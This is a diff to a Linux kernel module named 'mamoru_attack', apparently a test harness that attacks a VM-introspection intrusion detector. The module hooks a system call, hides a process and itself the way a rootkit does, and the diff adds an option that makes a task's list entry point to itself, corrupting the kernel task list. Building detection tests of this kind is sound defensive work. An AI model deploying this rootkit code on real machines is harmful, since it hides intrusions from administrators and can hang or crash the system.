@@ -11,6 +11,9 @@
  *                   of the /proc root, like a rootkit would. `kill -0 P`, /proc/P still work.
  *   hide_self=1     unlink this module from the module list: lsmod loses it (and rmmod
  *                   can no longer find it, so everything stays until the guest reboots)
+ *   loop_pid=P      corrupt the task list: P's `next` points back at P, so a walk from
+ *                   init_task never ends (hostile memory for the IDS; not undone on unload,
+ *                   the guest must be reset)
  *
  * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
  * sys_call_table. The table is read-only data: the slot is written through a temporary
@@ -55,6 +58,9 @@ MODULE_PARM_DESC(nr, "system call number to hook (default 61, getdents64)");
 
 static int hide_pid;
 module_param(hide_pid, int, 0444);
+static int loop_pid;
+module_param(loop_pid, int, 0444);
+MODULE_PARM_DESC(loop_pid, "PID whose task-list entry is made to point at itself (0: none)");
 MODULE_PARM_DESC(hide_pid, "PID of a process to unlink from the task list (0: none)");
 
 static bool hide_self;
@@ -302,6 +308,30 @@ static void unhide_task(void)
 	hidden_task = NULL;
 }
 
+static int loop_task(void *task)
+{
+	struct task_struct *t = task;
+
+	WRITE_ONCE(t->tasks.next, &t->tasks);
+	return 0;
+}
+
+static int corrupt_task_list(void)
+{
+	struct task_struct *t;
+
+	rcu_read_lock();
+	t = pid_task(find_vpid(loop_pid), PIDTYPE_PID);
+	rcu_read_unlock();
+	if (!t || !thread_group_leader(t) || t->pid == 1) {
+		pr_err(PFX "will not loop %d (no such process leader, or init)\n", loop_pid);
+		return -EINVAL;
+	}
+	stop_machine(loop_task, t, NULL);
+	pr_info(PFX "task list now loops at pid %d\n", loop_pid);
+	return 0;
+}
+
 static int unlink_module(void *mod)
 {
 	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
@@ -321,6 +351,14 @@ static int __init mamoru_attack_init(void)
 	if (hide_pid) {
 		err = hide_task();
 		if (err) {
+			unhook_syscall();
+			return err;
+		}
+	}
+	if (loop_pid) {
+		err = corrupt_task_list();
+		if (err) {
+			unhide_task();
 			unhook_syscall();
 			return err;
 		}
